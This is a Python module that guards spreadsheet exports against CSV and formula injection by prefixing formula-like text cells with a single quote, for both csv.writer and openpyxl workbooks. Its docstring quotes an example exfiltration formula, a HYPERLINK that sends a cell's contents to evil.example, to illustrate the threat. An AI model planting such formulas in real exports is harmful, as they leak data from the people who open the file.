"""Cells that are safe to open in a spreadsheet: every CSV and XLSX writer passes its rows through here.

A text cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel, LibreOffice and
Google Sheets as a formula, so a site or service named `=HYPERLINK("http://evil.example/?leak="&A1,"Open")` would
run in the spreadsheet of whoever opens the export. As OWASP recommends ("CSV Injection"), such a cell is
prefixed with a single quote, which the spreadsheet shows as text. Numbers stay numbers: int, float and Decimal
values, and text that is exactly a number such as "-12" or "+3.5", are written as they are.

Machine-to-machine formats whose readers are programs (the HSDS data package, the backup archive) are not
spreadsheets and keep their values unchanged.
"""

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """`value` as a cell no spreadsheet evaluates: formula-looking text gets a leading single quote."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in row]


class SafeWriter:
    """A `csv.writer` whose every cell goes through `safe_cell`."""

    def __init__(self, handle, **options: Any) -> None:
        self._writer = csv.writer(handle, **options)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(handle, **options: Any) -> SafeWriter:
    """Like `csv.writer(handle, **options)`, for files a person may open in a spreadsheet."""
    return SafeWriter(handle, **options)


def safe_workbook(book) -> None:
    """Neutralise every text cell of an openpyxl workbook in place, just before it is saved (openpyxl stores
    text beginning with `=` as a formula; such a cell is written back as the text it was)."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    safe = safe_cell(cell.value)
                    if safe is not cell.value:
                        cell.value = safe
